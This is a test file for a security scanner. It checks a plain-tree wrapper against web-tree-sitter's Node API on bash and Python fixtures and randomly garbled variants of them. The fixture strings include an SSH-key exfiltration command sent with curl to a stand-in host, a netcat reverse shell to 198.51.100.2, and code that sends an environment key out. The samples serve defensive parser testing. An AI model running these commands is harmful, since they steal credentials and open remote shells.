// common/plain-tree.ts: the plain copy of a tree answers as web-tree-sitter's Node API does, for
// every node (named and anonymous) of real, broken, garbled and non-ASCII scripts in both grammars
// the analyzers parse: type, named-ness, offsets, text, row, children, fields and parent.

import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { Node, Parser } from 'web-tree-sitter';
import { loadParser } from '../../../src/scan/analyzers/common/index.ts';
import { plainTree, type PlainNode } from '../../../src/scan/analyzers/common/plain-tree.ts';
import { rng } from '../../helpers/random.ts';

const shellScripts = [
  'X=$(cat ~/.ssh/id_rsa | base64 -w0); curl -d "k=$X" https://webhook.example/a > out.txt 2>&1\n',
  'cat <<EOF | python3 -\nimport os\nprint(os.environ["$T"])\nEOF\necho done <<< "$(id)"\n',
  'for f in *.txt; do case $f in *.sh) source "$f";; esac; done # ${COMMENT}\n',
  'f() { local a=${1:-x} b="${A/b/c}"; echo ${#ARR[@]} ${!ref} $\'\\x41\' "é😀$((1+2))"; }\r\nf | tee -a /tmp/x\n',
  'if [[ $A == "b" && -f ~/.env ]]; then sudo -u root env K=1 nohup bash -c \'nc 198.51.100.2 4444 -e sh\' & fi\n',
  'echo "unterminated $(ls\ncurl https://example.invalid/$(whoami\n}}} fi done ))) "\n',
  '',
];

const pythonScripts = [
  'import os, subprocess as sp\nfrom urllib import request as r\nk = os.environ["KEY"]\nsp.run(["curl", "-d", k, f"https://x.example/{k!r:>10}"])\n',
  'class A(B, metaclass=M):\n    @dec(1)\n    def m(self, *a, **kw) -> int:\n        with open("~/.ssh/id_rsa") as f, g() as (x, y):\n            return [c for c in f.read() if c][::-1]\n',
  'def f(:\n    x = = 1\n  y = "unterminated\nprint(b"\\x41" rb\'\\d\' """tri\nple""" + 1_000 ** -2)\n',
  'match cmd:\n    case [\"go\", *rest] | {"k": v} if v:\n        pass\nlambda x=1, /, *, y: (yield x)\nasync def g(): await h(); del a[0], b.c\n',
  's = "é😀\\N{BULLET}" \\\n  "more"\nx: int = 1 if a else 2; global z; nonlocal w\n',
  '',
];

const alphabet = '$(){}[]<>|&;\'"`\\#=-/:@*+%! \n\t\rabcXYZ019.é😀';

/** Random, truncated and mutated versions of the scripts above. */
function garbled(base: readonly string[], seed: number, count: number): string[] {
  const r = rng(seed);
  const out: string[] = [];
  for (let i = 0; i < count; i++) {
    const text = base[i % base.length]!;
    switch (i % 3) {
      case 0: out.push(Array.from({ length: 1 + Math.floor(r() * 300) }, () => alphabet[Math.floor(r() * alphabet.length)]).join('')); break;
      case 1: out.push(text.slice(0, Math.floor(r() * text.length))); break;
      default: out.push([...text].map((c) => (r() < 0.1 ? alphabet[Math.floor(r() * alphabet.length)]! : c)).join(''));
    }
  }
  return out;
}

/** `type.field` pairs where tree-sitter answers a field with a grandchild. */
const quirks = new Set<string>();

/** Compares one node and, recursively, its children; returns the number of nodes compared. */
function compare(node: Node, plain: PlainNode, fields: readonly (string | null)[], where: string): number {
  const at = `${where} ${node.type}@${node.startIndex}`;
  assert.equal(plain.type, node.type, at);
  assert.equal(plain.isNamed, node.isNamed, at);
  assert.equal(plain.startIndex, node.startIndex, at);
  assert.equal(plain.endIndex, node.endIndex, at);
  assert.equal(plain.text, node.text, at);
  assert.equal(plain.startPosition.row, node.startPosition.row, at);
  const children = node.children;
  assert.equal(plain.children.length, children.length, `${at}: children`);
  assert.deepEqual(plain.namedChildren.map((c) => c.startIndex), node.namedChildren.map((c) => c!.startIndex), `${at}: named children`);
  assert.equal(plain.namedChildCount, node.namedChildCount, at);
  assert.equal(plain.firstNamedChild?.startIndex, node.firstNamedChild?.startIndex, at);
  for (let i = 0; i < children.length; i++) assert.equal(plain.fieldNameForChild(i), node.fieldNameForChild(i), `${at}: field of child ${i}`);
  for (const field of fields) {
    if (!field) continue;
    const one = node.childForFieldName(field);
    // tree-sitter's quirk through an aliased hidden rule (see PlainNode.childForFieldName).
    if (one && one.parent?.id !== node.id) {
      quirks.add(`${node.type}.${field}`);
      continue;
    }
    assert.equal(plain.childForFieldName(field)?.startIndex, one?.startIndex, `${at}: field ${field}`);
    assert.equal(plain.childForFieldName(field)?.type, one?.type, `${at}: field ${field}`);
    assert.deepEqual(plain.childrenForFieldName(field).map((c) => c.startIndex), node.childrenForFieldName(field).map((c) => c!.startIndex), `${at}: fields ${field}`);
  }
  let count = 1;
  for (let i = 0; i < children.length; i++) {
    const child = plain.children[i]!;
    assert.equal(child.parent, plain, `${at}: parent of child ${i}`);
    count += compare(children[i]!, child, fields, where);
  }
  return count;
}

function check(parser: Parser, texts: readonly string[], label: string): number {
  let nodes = 0;
  const ids = new Set<number>();
  texts.forEach((text, i) => {
    const tree = parser.parse(text)!;
    try {
      const plain = plainTree(tree, text);
      assert.equal(plain.parent, null);
      nodes += compare(tree.rootNode, plain, tree.language.fields, `${label} ${i}`);
      ids.clear();
      const visit = (n: PlainNode) => {
        assert.ok(!ids.has(n.id), `${label} ${i}: id ${n.id} twice`);
        ids.add(n.id);
        n.children.forEach(visit);
      };
      visit(plain);
    } finally {
      tree.delete();
    }
  });
  return nodes;
}

describe('common/plain-tree', () => {
  it('answers as the Node API on every node of bash scripts, broken and garbled ones too', async () => {
    const parser = await loadParser('tree-sitter-bash/tree-sitter-bash.wasm');
    const nodes = check(parser, [...shellScripts, ...garbled(shellScripts, 11, 300)], 'bash');
    assert.ok(nodes > 5000, `compared ${nodes} nodes`);
  });

  it('answers as the Node API on every node of Python scripts, broken and garbled ones too', async () => {
    const parser = await loadParser('tree-sitter-python/tree-sitter-python.wasm');
    const nodes = check(parser, [...pythonScripts, ...garbled(pythonScripts, 12, 120)], 'python');
    assert.ok(nodes > 5000, `compared ${nodes} nodes`);
    // The only place the quirk shows, and no analyzer asks a match statement for its cases.
    assert.deepEqual([...quirks], ['match_statement.alternative']);
  });
});
